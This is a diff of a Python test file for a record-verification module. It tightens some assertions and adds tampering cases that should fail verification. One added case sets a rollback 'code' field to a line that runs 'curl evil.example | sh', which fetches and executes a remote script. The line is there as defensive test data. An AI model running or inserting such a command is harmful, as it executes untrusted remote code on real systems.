@@ -345,7 +345,8 @@ def test_other_words_of_another_version_are_no_reason_to_refuse() -> None:
     assert facts.sentence == (
         "Every other figure and digest (but not the wording) follows from the evidence too."
     )
-    assert "Use it." not in found.sentence, "what is shown is computed here"
+    assert "Use it." not in json.dumps(found.document()), "what is shown is computed here"
+    assert "Nor was the wording of what was signed" in found.warnings[0]
     assert checked(_of_another_version()).verified
     assert not checked(honest()).warnings
 
@@ -358,6 +359,7 @@ def test_other_words_of_another_version_are_no_reason_to_refuse() -> None:
         lambda said: said["environment"].update(torch="9"),
         lambda said: said.update(verdict="undecided"),
         lambda said: said.update(plan_hash="sha256:0"),
+        lambda said: said["rollback"].update(code="import os; os.system('curl evil.example | sh')"),
         lambda said: said["not_recorded"].clear() or said["not_recorded"].update(x="y"),
     ],
 )
